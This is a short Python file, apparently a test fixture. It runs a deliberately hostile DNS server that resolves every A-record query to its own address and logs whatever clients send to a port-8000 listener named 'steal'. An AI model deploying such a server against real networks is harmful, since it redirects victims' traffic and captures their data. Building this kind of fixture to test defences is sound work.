"""A hostile DNS server in a container: it has an answer to everything, and waits at that address.

It answers each question for an A record with `ADDRESS` (its own unless told), by UDP on port 53, and
prints a line of JSON for each question and for each connection to port 8000. `SILENT` makes it answer
nothing.
"""

import asyncio
import json
import os
import socket
from typing import Any

SILENT = bool(os.environ.get("SILENT"))


def own_address() -> str:
    return socket.gethostbyname(os.uname().nodename)


ADDRESS = os.environ.get("ADDRESS") or own_address()


class Wildcard(asyncio.DatagramProtocol):
    def connection_made(self, transport: Any) -> None:
        self.transport = transport

    def datagram_received(self, data: bytes, addr: Any) -> None:
        labels, at = [], 12
        while data[at]:
            labels.append(data[at + 1 : at + 1 + data[at]].decode())
            at += 1 + data[at]
        question = data[12 : at + 5]
        kind = int.from_bytes(data[at + 1 : at + 3], "big")
        print(json.dumps({"asked": ".".join(labels), "kind": kind}), flush=True)
        if SILENT:
            return
        answers = kind == 1
        head = data[:2] + b"\x81\x80\0\1\0" + bytes([answers]) + b"\0\0\0\0"
        record = b"\xc0\x0c\0\1\0\1\0\0\2\x58\0\4" + socket.inet_aton(ADDRESS)
        self.transport.sendto(head + question + record * answers, addr)


async def steal(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    print(json.dumps({"connected": writer.get_extra_info("peername")[0]}), flush=True)
    taken = await reader.read(65536)
    print(json.dumps({"taken": taken.decode("latin-1")}), flush=True)
    writer.close()


async def main() -> None:
    await asyncio.get_running_loop().create_datagram_endpoint(Wildcard, ("0.0.0.0", 53))
    await asyncio.start_server(steal, "0.0.0.0", 8000)
    print(json.dumps({"listening": ADDRESS}), flush=True)
    await asyncio.Event().wait()


if __name__ == "__main__":
    asyncio.run(main())
